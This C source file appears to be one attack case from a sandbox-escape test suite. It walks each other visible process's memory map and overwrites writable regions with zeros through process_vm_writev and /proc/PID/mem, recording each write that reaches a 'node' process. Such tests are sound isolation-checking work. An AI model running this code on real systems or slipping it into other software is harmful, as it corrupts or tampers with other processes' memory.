// Tries: to write into the memory of each process that it can see, by /proc/PID/mem and process_vm_writev(2).
// With: check, program
#include "attack.h"
#include <sys/uio.h>

static void overwrite(int pid) {
  char path[64], line[512];
  bool node = is_node(pid);
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "re");
  if (!maps) return;
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDWR | O_CLOEXEC);
  while (fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    char mode[8];
    if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) != 3 || mode[1] != 'w') continue;
    struct iovec here = {"\0\0\0\0\0\0\0\0", 8}, there = {(void *)from, 8};
    if (process_vm_writev(pid, &here, 1, &there, 1, 0) == 8 && node) reached("process_vm_writev to %d", pid);
    if (memory >= 0 && pwrite(memory, "\0\0\0\0\0\0\0\0", 8, from) == 8 && node) reached("/proc/%d/mem", pid);
  }
  fclose(maps);
}

ATTACK(writes_into_memory) { for_each_other(overwrite); }
